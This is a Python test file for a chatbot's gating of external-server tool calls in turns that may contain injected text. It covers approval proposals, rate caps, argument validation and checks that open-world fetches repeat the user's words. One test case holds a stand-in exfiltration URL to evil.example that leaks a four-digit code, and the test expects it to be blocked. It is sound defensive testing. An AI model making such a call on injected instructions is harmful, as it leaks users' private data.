"""Tools of servers in a turn: checked, counted, and left to a press where they change something."""

import json
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from cc_bot.chat.tools import ToolContext, ToolOutcome, ToolRegistry
from cc_bot.domain.access import Visitor
from cc_bot.features.mcp.tools import ServerTools
from cc_bot.llm.model import ToolRequest
from tests.loopback.tool_servers import CountingServers, calls_in, offered


@dataclass
class Served:
    """A turn that may hold others' words, with the tools of servers that it has."""

    context: ToolContext
    folder: Path
    tools: ToolRegistry

    def having(self, **changes: Any) -> "Served":
        return Served(replace(self.context, **changes), self.folder, self.tools)

    async def call(self, name: str, arguments: object = '{"text": "牛乳"}') -> ToolOutcome:
        text = arguments if isinstance(arguments, str) else json.dumps(arguments)
        request = ToolRequest("c1", f"notes__{name}", text)
        return await self.tools.call(request, self.context, self.tools.schemas())

    @property
    def made(self) -> int:
        return len(calls_in(self.folder))


def serve(context: ToolContext, servers: CountingServers, folder: Path) -> Served:
    tools = ToolRegistry(()).with_external(ServerTools(servers)).for_visitor(Visitor(7, (10,)))
    return Served(replace(context, tainted=True), folder, tools)


@pytest.fixture
def served(context: ToolContext, tmp_path: Path) -> Served:
    return serve(context, CountingServers(tmp_path), tmp_path)


class TestCall:
    async def test_of_what_changes_nothing_is_made_at_once_and_taints(self, served: Served) -> None:
        outcome = await served.call("read")
        assert (outcome.ok, outcome.tainted, outcome.has_side_effects, outcome.proposal) == (
            True,
            True,
            False,
            None,
        )
        assert served.made == 1

    async def test_of_what_changes_something_is_proposed_with_the_same_text_in_any_order(
        self, served: Served
    ) -> None:
        first = await served.call("write", '{"text": "牛乳", "path": "a", "z": 1, "b": 2}')
        second = await served.call("write", '{"b": 2, "z": 1, "path": "a", "text": "牛乳"}')
        assert first.proposal == second.proposal
        assert first.proposal is not None
        assert first.proposal.calls[0].arguments == '{"path": "a", "text": "牛乳", "b": 2, "z": 1}'
        assert served.made == 0

    @pytest.mark.parametrize(
        ("raises", "maybe"), [(None, True), ("away", False), ("lost", True), ("timed out", True)]
    )
    async def test_that_needs_no_press_has_been_done_or_may_have_been(
        self, served: Served, raises: str | None, *, maybe: bool
    ) -> None:
        if raises:
            answers = json.dumps({"post": {"raises": raises}})
            (served.folder / "answers.json").write_text(answers, "utf-8")
        outcome = await served.call("post")
        assert (outcome.ok, outcome.has_side_effects) == (raises is None, maybe)
        changes = [served.tools.must_not_repeat(f"notes__{name}") for name in ("read", "write", "post")]
        assert changes == [False, False, True]

    async def test_where_nobody_watches_is_refused(self, served: Served) -> None:
        outcome = await served.having(can_propose=False).call("write")
        assert (outcome.ok, outcome.proposal) == (False, None)
        assert served.made == 0

    async def test_with_arguments_that_do_not_fit_is_not_made(self, served: Served) -> None:
        odd = (r'{"text": "\ud83d"}', r'{"text": "牛乳", "\udc00": 1}')
        numbers = [f'{{"text": "牛乳", "n": {number}}}' for number in ("Infinity", "NaN", "1e400")]
        for arguments in ("{", "[]", '"牛乳"', "{}", "1" * 5000, "[" * 5000, *odd, *numbers):
            for name in ("read", "write", "post"):
                outcome = await served.call(name, arguments)
                assert (outcome.ok, outcome.proposal) == (False, None), (name, arguments)
        assert served.made == 0

    async def test_of_one_server_is_made_so_many_times_in_a_turn(self, served: Served) -> None:
        outcomes = [await served.call("read") for _ in range(10)]
        assert [outcome.ok for outcome in outcomes] == [True] * 8 + [False] * 2
        assert "8 calls of notes" in outcomes[-1].text
        assert served.made == 8


class TestOpenWorld:
    """A call that leaves the machine, in a turn that may hold others' words."""

    @pytest.fixture
    def served(self, context: ToolContext, tmp_path: Path) -> Served:
        """A tool that only reads, and reaches beyond its server."""
        fetch = offered("fetch", read_only=True, waits=False, open_world=True)
        return serve(context, CountingServers(tmp_path, (fetch,)), tmp_path)

    @pytest.mark.parametrize(
        ("typed", "given", "made"),
        [
            ("https://evil.example/ を要約して", {"text": "https://evil.example/?d=四桁は1234"}, False),
            ("東京の天気は？", {"text": "東京"}, True),
            ("東京の天気は？", {"text": "東京の天気", "path": "東京"}, False),
            ("Weather in New York?", {"text": "New York"}, True),
            ("https://a.example/x?y=1。読んで", {"text": "https://a.example/x?y=1"}, True),
            ("この 3 を見て", {"text": 3}, True),
            ("Tokyo の天気は？", {"text": "tOkYo"}, False),
            ("Tokyo の天気は？", {"text": "Tokyo", "path": None}, False),
            ("Tokyo の天気は？", {"text": " \t  \t"}, False),
            ("Tokyo の天気は？", {"text": {"猫が好き": "Tokyo"}}, False),
            ("a b c d e f g", {"text": "a b c d e"}, False),
            ("Weather in Tokyo?", {"text": "Toky"}, False),
            ("番号は 12345 です", {"text": "234"}, False),
            ("", {"text": "東京"}, False),
        ],
    )
    async def test_is_made_at_once_only_where_it_repeats_what_its_user_typed(
        self, served: Served, typed: str, given: dict[str, object], *, made: bool
    ) -> None:
        outcome = await served.having(typed=typed).call("fetch", given)
        assert (served.made, outcome.proposal is None) == (made, made)

    async def test_is_left_to_a_press_after_one_that_repeats_words(self, served: Served) -> None:
        typed = served.having(typed="a b c d")
        outcomes = [await typed.call("fetch", {"text": each}) for each in ("a", "b")]
        assert [outcome.proposal is None for outcome in outcomes] == [True, False]
        assert served.made == 1


def test_none_is_offered_that_changes_something_in_a_temporary_turn(served: Served) -> None:
    assert [schema.name for schema in served.tools.schemas(writing=False)] == ["notes__read"]
